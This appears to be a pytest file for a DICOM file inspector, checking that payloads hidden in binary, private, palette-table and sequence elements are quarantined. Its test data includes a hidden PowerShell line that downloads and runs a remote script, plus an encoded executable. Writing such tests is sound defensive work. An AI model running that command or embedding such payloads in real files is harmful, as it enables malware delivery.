"""Binary DICOM values are judged (agent/inspect/dicom_parse.py `Parser.note`).

PS3.5 §6.2: besides the string VRs (judged as text a viewer shows) a value is a blob
(OB, OW, OF, OD, OL, UN) or an array of numbers (US, SS, UL, SL, FL, FD, AT). Any of them,
in a standard or a private element, carries bytes of the writer's choosing; a sequence
(SQ) of known length holds items (§7.5) and nothing else. PE/ELF headers are found
anywhere in a DICOM file by the whole-file search; an encoded program or a script line
only in a region a judge is given, so those are the payloads here.
"""

from __future__ import annotations

import base64
import random
import struct

import pytest

from agent.inspect.engine import inspect_bytes
from tests import classify_samples as cs
from tests.format_samples import dicom_bytes

SCRIPT = b"powershell -nop -w hidden -c iex(iwr http://198.51.100.7/a.ps1)"
PAYLOADS = {"base64 program": base64.b64encode(cs.real_pe()), "script": SCRIPT}
# PS3.5 §7.1.2: these VRs have a reserved 2 bytes and a 32-bit length
LONG_LENGTH = {b"OB", b"OD", b"OF", b"OL", b"OV", b"OW", b"SQ", b"SV", b"UC", b"UN", b"UR", b"UT"}
BINARY_VRS = (b"OB", b"OW", b"OF", b"OD", b"OL", b"FL", b"FD", b"SL", b"UL", b"US", b"SS", b"AT")
PIXELS = random.Random(5).randbytes(64 * 1024)


def _element(group: int, element: int, vr: bytes, value: bytes) -> bytes:
    """One explicit-VR little-endian element (PS3.5 §7.1.2)."""
    value += b"\x00" * (len(value) % 2)
    if vr in LONG_LENGTH:
        return (
            struct.pack("<HH", group, element)
            + vr
            + bytes(2)
            + struct.pack("<I", len(value))
            + value
        )
    return struct.pack("<HH", group, element) + vr + struct.pack("<H", len(value)) + value


def _dicom(extra: bytes) -> bytes:
    """The sample dataset with `extra` elements between (0028,0011) and the pixel data."""
    return dicom_bytes(extra_elements=extra, pixel_element=_element(0x7FE0, 0x0010, b"OW", PIXELS))


def _private(vr: bytes, value: bytes) -> bytes:
    creator = _element(0x0029, 0x0010, b"LO", b"ACME 1.0")
    return creator + _element(0x0029, 0x1010, vr, value)


def _codes(data: bytes) -> tuple[str, set[str]]:
    report = inspect_bytes("CT0001.dcm", data)
    return report.verdict.value, {f.code for f in report.findings}


def test_the_sample_is_clean() -> None:
    assert _codes(_dicom(b""))[0] == "clean"


@pytest.mark.parametrize("kind", PAYLOADS)
@pytest.mark.parametrize("vr", BINARY_VRS, ids=bytes.decode)
def test_a_payload_in_a_standard_binary_value_is_quarantined(vr: bytes, kind: str) -> None:
    verdict, codes = _codes(_dicom(_element(0x0040, 0x9999, vr, PAYLOADS[kind])))
    assert verdict == "quarantine"
    assert "dicom.payload_in_metadata" in codes


@pytest.mark.parametrize("kind", PAYLOADS)
@pytest.mark.parametrize("vr", BINARY_VRS, ids=bytes.decode)
def test_a_payload_in_a_private_binary_value_is_quarantined(vr: bytes, kind: str) -> None:
    verdict, codes = _codes(_dicom(_private(vr, PAYLOADS[kind])))
    assert verdict == "quarantine"
    assert "dicom.payload_in_metadata" in codes


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_as_a_palette_lut_is_quarantined(kind: str) -> None:
    """Red Palette Color Lookup Table Data (0028,1201) OW: 16-bit entries of any value."""
    assert _codes(_dicom(_element(0x0028, 0x1201, b"OW", PAYLOADS[kind])))[0] == "quarantine"


@pytest.mark.parametrize("kind", PAYLOADS)
def test_a_payload_in_a_sequence_that_holds_no_items_is_quarantined(kind: str) -> None:
    verdict, codes = _codes(_dicom(_private(b"SQ", PAYLOADS[kind])))
    assert verdict == "quarantine"
    assert "dicom.unexplained_data" in codes


@pytest.mark.parametrize("vr", BINARY_VRS, ids=bytes.decode)
def test_harmless_binary_values_stay_clean(vr: bytes) -> None:
    ramp = bytes(range(256))
    numbers = struct.pack("<64f", *(i / 7 for i in range(64)))
    for value in (ramp, numbers, bytes(512)):
        assert _codes(_dicom(_element(0x0040, 0x9999, vr, value)))[0] == "clean", vr
        assert _codes(_dicom(_private(vr, value)))[0] == "clean", vr


def test_a_real_palette_lut_stays_clean() -> None:
    lut = struct.pack("<256H", *(i * 257 for i in range(256)))
    descriptor = _element(0x0028, 0x1101, b"US", struct.pack("<HHH", 256, 0, 16))
    assert _codes(_dicom(descriptor + _element(0x0028, 0x1201, b"OW", lut)))[0] == "clean"
